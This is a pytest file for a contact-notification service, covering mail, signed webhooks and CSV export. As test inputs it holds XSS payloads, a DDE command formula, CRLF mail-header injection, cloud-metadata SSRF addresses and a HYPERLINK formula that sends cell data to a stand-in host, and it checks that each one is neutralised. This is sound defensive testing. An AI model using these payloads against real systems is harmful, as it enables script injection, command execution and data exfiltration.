"""How the client learns of a contact: by mail, by a signed webhook, and as a file that runs nothing."""

import base64
import csv
import email
import hmac
import io
from collections.abc import AsyncIterator
from dataclasses import dataclass, field, replace
from email.message import EmailMessage
from email.policy import default
from pathlib import Path
from typing import Any

import httpx2
import orjson
import pytest
from aiohttp import web
from sqlalchemy import text

from switchboard.core.resources import Resources
from switchboard.domains.conversation.contacts.export import as_cell
from switchboard.domains.conversation.contacts.tasks import DeliveryFailed, job_handlers
from switchboard.integrations.email import FileMailer
from tests.domains.conversation.contacts.leads import ADA, contacts_of, leave, set_form, take_jobs
from tests.factories import Client
from tests.visitors import visit

SENDER = "Switchboard <no-reply@example.com>"
# XSS-05: what a visitor may try to do to a mail, a page or a spreadsheet.
HOSTILE_NAME = "<script>alert(1)</script> \"=cmd|' /C calc'!A0\" Subject: pwned"
HOSTILE_TEXT = "Hello\r\n.\r\nBcc: everybody@example.com\r\n\r\n<img src=x onerror=alert(1)>\n=1+1"

HEADERS = {
    *("from", "to", "subject", "date", "message-id", "auto-submitted"),
    *("mime-version", "content-type", "content-transfer-encoding"),
}


@dataclass
class Receiver:
    """A client's own server, and what it was sent."""

    port: int = 0
    status: int = 200
    requests: list[tuple[dict[str, str], bytes]] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://localhost:{self.port}/leads"


@pytest.fixture
async def receiver() -> AsyncIterator[Receiver]:
    """A running receiver."""
    received = Receiver()

    async def take(request: web.Request) -> web.Response:
        received.requests.append(
            ({name.lower(): value for name, value in request.headers.items()}, await request.read())
        )
        return web.Response(status=received.status, headers={"Location": "/elsewhere"})

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", take)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    received.port = runner.addresses[0][1]
    yield received
    await runner.cleanup()


async def run_jobs(resources: Resources, client: Client, folder: Path) -> list[str]:
    """Do what the worker would do for a tenant; answers with what it was."""
    local = replace(resources, settings=resources.settings.model_copy(update={"fetch_loopback": True}))
    handlers = job_handlers(local, FileMailer(SENDER, folder))
    jobs = await take_jobs(resources, client.id)
    for entrypoint, job in jobs:
        await handlers[entrypoint](job)
    return [entrypoint for entrypoint, _ in jobs]


def read_mails(folder: Path) -> list[EmailMessage]:
    """The mails in a folder, in the order in which they were written."""
    found = [email.message_from_bytes(path.read_bytes(), policy=default) for path in sorted(folder.glob("*.eml"))]
    return [mail for mail in found if isinstance(mail, EmailMessage)]


async def test_the_client_gets_a_mail_in_which_nothing_runs(
    http: httpx2.AsyncClient, resources: Resources, client_a: Client, client_b: Client, tmp_path: Path
) -> None:
    """XSS-05: whatever a visitor writes stays in a plain text; no header comes of it."""
    await set_form(resources, client_a, notify_emails=["office@example.com", "sales@example.com"])
    await set_form(resources, client_b, notify_emails=["neighbour@example.com"])
    answer = await leave(await visit(http, client_a), ADA | {"full_name": HOSTILE_NAME, "details": HOSTILE_TEXT})
    assert answer.status_code == 201, answer.text
    assert await run_jobs(resources, client_a, tmp_path) == ["mail_contact", "mail_contact"]
    assert await take_jobs(resources, client_b.id) == []
    mails = read_mails(tmp_path)
    assert [mail["To"] for mail in mails] == ["office@example.com", "sales@example.com"]
    for mail in mails:
        assert {name.lower() for name in mail} == HEADERS
        assert mail["Subject"] == f"New contact from Assistant of {client_a.id}"
        assert mail.get_content_type() == "text/plain"
        assert HOSTILE_NAME in mail.get_content()
        assert "<img src=x onerror=alert(1)>" in mail.get_content()


async def delivery_of(http: httpx2.AsyncClient, client: Client) -> Any:
    """What the client sees of the only contact's way to the webhook."""
    (contact,) = await contacts_of(http, client)
    return contact["webhook"]


async def test_a_webhook_is_signed_and_tried_until_it_is_taken(
    http: httpx2.AsyncClient,
    resources: Resources,
    client_a: Client,
    client_b: Client,
    receiver: Receiver,
    tmp_path: Path,
) -> None:
    await set_form(resources, client_a, webhook_url=receiver.url)
    await set_form(resources, client_b)
    await leave(await visit(http, client_a), ADA)
    await leave(await visit(http, client_b), ADA)
    assert await take_jobs(resources, client_b.id) == []
    ((_, job),) = jobs = await take_jobs(resources, client_a.id)
    assert set(job.payload) == {"contact_id"}, "the queue holds no personal data"
    local = replace(resources, settings=resources.settings.model_copy(update={"fetch_loopback": True}))
    deliver = job_handlers(local, FileMailer(SENDER, tmp_path))[jobs[0][0]]
    assert (await delivery_of(http, client_a)) == {"status": "waiting", "error": None, "tried_at": None}
    for receiver.status in (500, 302, 404):
        with pytest.raises(DeliveryFailed, match=str(receiver.status)):
            await deliver(job)
        waiting = await delivery_of(http, client_a)
        assert (waiting["status"], str(receiver.status) in waiting["error"]) == ("waiting", True)
    assert len(receiver.requests) == 3, "a redirect is not followed"
    receiver.status = 204
    await deliver(job)
    delivered = await delivery_of(http, client_a)
    assert (delivered["status"], delivered["error"], delivered["tried_at"] is None) == ("delivered", None, False)
    assert await delivery_of(http, client_b) is None

    secret = await http.get("/api/client/contacts/webhook-secret", headers=client_a.owner.headers)
    (contact,) = await contacts_of(http, client_a)
    for headers, body in receiver.requests:
        assert headers["webhook-signature"] == signature_of(headers, body, secret.json()["secret"])
        assert headers["webhook-id"] == contact["id"], "the same at each attempt, so that a receiver can tell"
        assert headers["content-type"] == "application/json"
        document = orjson.loads(body)
        assert document["type"] == "contact.created"
        told = {name: value for name, value in contact.items() if name != "webhook"}
        assert document["data"] == told | {"tenant_id": client_a.id}


async def test_a_webhook_reaches_no_private_network(
    http: httpx2.AsyncClient, resources: Resources, client_a: Client, receiver: Receiver, tmp_path: Path
) -> None:
    await set_form(resources, client_a, webhook_url=receiver.url)
    await leave(await visit(http, client_a), ADA)
    handlers = job_handlers(resources, FileMailer(SENDER, tmp_path))
    ((entrypoint, job),) = await take_jobs(resources, client_a.id)
    await handlers[entrypoint](job)
    for address in ("http://169.254.169.254/latest", "http://10.0.0.1/", "https://metadata.internal/"):
        await set_form(resources, client_a, webhook_url=address)
        await handlers[entrypoint](job)
    assert receiver.requests == []
    refused = await delivery_of(http, client_a)
    assert (refused["status"], "private network" in refused["error"]) == ("failed", True)
    await set_form(resources, client_a, webhook_url="https://nobody.example/hook")
    with pytest.raises(DeliveryFailed, match="no website by that name"):
        await handlers[entrypoint](job)


async def test_a_delivery_that_was_given_up_is_shown_and_can_be_sent_again(
    http: httpx2.AsyncClient,
    resources: Resources,
    client_a: Client,
    client_b: Client,
    receiver: Receiver,
    tmp_path: Path,
) -> None:
    await set_form(resources, client_a, webhook_url=receiver.url)
    contact = (await leave(await visit(http, client_a), ADA)).json()["id"]
    local = replace(resources, settings=resources.settings.model_copy(update={"fetch_loopback": True}))
    handlers = job_handlers(local, FileMailer(SENDER, tmp_path))
    ((entrypoint, job),) = await take_jobs(resources, client_a.id)
    receiver.status = 503
    await handlers[entrypoint](replace(job, is_last_try=True))
    failed = await delivery_of(http, client_a)
    assert (failed["status"], "503" in failed["error"]) == ("failed", True)

    url = f"/api/client/contacts/{contact}/send-again"
    refused = await http.post(url, headers=client_b.owner.headers)
    assert (refused.status_code, refused.json()["code"]) == (404, "contact_not_found")
    again = await http.post(url, headers=client_a.owner.headers)
    assert (again.status_code, again.json()["webhook"]["status"]) == (200, "waiting")
    receiver.status = 200
    ((entrypoint, job),) = await take_jobs(resources, client_a.id)
    await handlers[entrypoint](job)
    assert (await delivery_of(http, client_a))["status"] == "delivered"
    assert len({headers["webhook-id"] for headers, _ in receiver.requests}) == 1

    await set_form(resources, client_a, webhook_url=None)
    refused = await http.post(url, headers=client_a.owner.headers)
    assert (refused.status_code, refused.json()["code"]) == (409, "webhook_off")


async def test_for_a_day_the_secret_before_the_renewal_signs_too(
    http: httpx2.AsyncClient,
    resources: Resources,
    client_a: Client,
    client_b: Client,
    receiver: Receiver,
    tmp_path: Path,
) -> None:
    await set_form(resources, client_a, webhook_url=receiver.url)
    path = "/api/client/contacts/webhook-secret"
    first = (await http.get(path, headers=client_a.owner.headers)).json()
    renewed = (await http.post(f"{path}/rotate", headers=client_a.owner.headers)).json()
    assert (first["previous_until"], renewed["previous_until"] is None) == (None, False)
    await leave(await visit(http, client_a), ADA)
    await run_jobs(resources, client_a, tmp_path)
    async with resources.system_db.system_tx() as session:
        await session.execute(
            text("update webhook_secrets set previous_until = now() - interval '1 second' where tenant_id = :id"),
            {"id": client_a.id},
        )
    await leave(await visit(http, client_a), ADA)
    await run_jobs(resources, client_a, tmp_path)
    (within, body), (later, other) = receiver.requests
    assert within["webhook-signature"].split() == [
        signature_of(within, body, renewed["secret"]),
        signature_of(within, body, first["secret"]),
    ]
    assert later["webhook-signature"] == signature_of(later, other, renewed["secret"])
    assert (await http.get(path, headers=client_a.owner.headers)).json()["previous_until"] is None
    assert (await http.get(path, headers=client_b.owner.headers)).json()["previous_until"] is None


def signature_of(headers: dict[str, str], body: bytes, secret: str) -> str:
    """As Standard Webhooks says."""
    signed = f"{headers['webhook-id']}.{headers['webhook-timestamp']}.".encode() + body
    key = base64.b64decode(secret.removeprefix("whsec_"))
    return "v1," + base64.b64encode(hmac.digest(key, signed, "sha256")).decode()


async def test_nothing_is_sent_of_a_contact_that_was_deleted(
    http: httpx2.AsyncClient, resources: Resources, client_a: Client, receiver: Receiver, tmp_path: Path
) -> None:
    await set_form(resources, client_a, webhook_url=receiver.url, notify_emails=["office@example.com"])
    contact = (await leave(await visit(http, client_a), ADA)).json()["id"]
    await http.delete(f"/api/client/contacts/{contact}", headers=client_a.owner.headers)
    assert len(await run_jobs(resources, client_a, tmp_path)) == 2
    assert receiver.requests == []
    assert read_mails(tmp_path) == []


async def test_the_webhook_secret_can_be_renewed(http: httpx2.AsyncClient, client_a: Client, client_b: Client) -> None:
    path = "/api/client/contacts/webhook-secret"
    first = (await http.get(path, headers=client_a.owner.headers)).json()["secret"]
    assert (await http.get(path, headers=client_a.owner.headers)).json()["secret"] == first
    theirs = (await http.get(path, headers=client_b.owner.headers)).json()["secret"]
    renewed = (await http.post(f"{path}/rotate", headers=client_a.owner.headers)).json()["secret"]
    assert len({first, theirs, renewed}) == 3
    assert (await http.get(path, headers=client_a.owner.headers)).json()["secret"] == renewed
    assert (await http.get(path, headers=client_b.owner.headers)).json()["secret"] == theirs


async def export(http: httpx2.AsyncClient, client: Client, **query: Any) -> list[list[str]]:
    """The rows of the file."""
    response = await http.get("/api/client/contacts/export.csv", params=query, headers=client.owner.headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="contacts-')
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


async def test_contacts_are_exported_and_no_cell_is_a_formula(
    http: httpx2.AsyncClient, resources: Resources, client_a: Client, client_b: Client
) -> None:
    await set_form(resources, client_a)
    await set_form(resources, client_b)
    visitor = await visit(http, client_a)
    formula = '=HYPERLINK("https://evil.example?"&A1,"Click")'
    await leave(visitor, ADA | {"full_name": formula, "details": "@SUM(1+1)\n=2+5"})
    await leave(await visit(http, client_b), ADA | {"full_name": "The neighbour's"})
    colour = {"key": "colour", "label": "=Favourite colour", "kind": "text", "is_required": True}
    # Through the server that takes the contact, which forgets the form it knew at once.
    path = f"/api/client/assistants/{client_a.assistant_id}"
    changed = await http.patch(path, json={"contact_form": {"fields": [colour]}}, headers=client_a.owner.headers)
    assert changed.status_code == 200, changed.text
    await leave(visitor, {"colour": 'Grün, "dunkel"'})
    header, first, second = await export(http, client_a)
    assert header[:5] == ["Received", "Contact", "Assistant", "Conversation", "Read"]
    assert set(header[5:]) >= {"Full name", "Phone", "E-mail", "'=Favourite colour"}
    by_label = dict(zip(header, first, strict=True))
    assert by_label["Full name"] == f"'{formula}"
    assert by_label["Phone"] == "'+61 2 5550 1187"
    assert by_label["Anything else we should know?"] == "'@SUM(1+1)\n=2+5"
    assert dict(zip(header, second, strict=True))["'=Favourite colour"] == 'Grün, "dunkel"'
    assert "neighbour" not in str((header, first, second))
    newest = (await contacts_of(http, client_a))[0]
    await http.patch(f"/api/client/contacts/{newest['id']}", json={"is_read": True}, headers=client_a.owner.headers)
    assert len(await export(http, client_a, is_read="true")) == 2
    assert await export(http, client_a, assistant_id=str(client_b.assistant_id)) == [header[:5]]


async def test_a_large_export_comes_whole(http: httpx2.AsyncClient, resources: Resources, client_a: Client) -> None:
    async with resources.db.tenant_tx(client_a.id) as session:
        await session.execute(
            text(
                "insert into contacts (tenant_id, id, assistant_id, fields, search) select :tenant_id, uuidv7(), "
                ":assistant_id, jsonb_build_array(jsonb_build_object('key', 'n', 'label', 'N', 'kind', 'text', "
                "'value', n::text)), n::text from generate_series(1, 1234) n"
            ),
            {"tenant_id": client_a.id, "assistant_id": client_a.assistant_id},
        )
    rows = await export(http, client_a)
    assert sorted(int(row[-1]) for row in rows[1:]) == list(range(1, 1235))


async def test_exports_are_limited_and_audited(
    http: httpx2.AsyncClient, resources: Resources, client_a: Client, client_b: Client
) -> None:
    path = "/api/client/contacts/export.csv"
    statuses = [(await http.get(path, headers=client_a.owner.headers)).status_code for _ in range(12)]
    assert statuses == [200] * 10 + [429] * 2
    assert (await http.get(path, headers=client_b.owner.headers)).status_code == 200
    async with resources.system_db.system_tx() as session:
        found = await session.scalar(
            text("select count(*) from audit_events where tenant_id = :id and action = 'contacts.exported'"),
            {"id": client_a.id},
        )
    assert found == 10


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "  -"])
def test_a_cell_never_begins_a_formula(start: str) -> None:
    assert as_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("plain", ["", "Ada", "1+1", "a=b", "(02) 5550", "'x", "@"[1:]])
def test_an_ordinary_cell_is_left_alone(plain: str) -> None:
    assert as_cell(plain) == plain
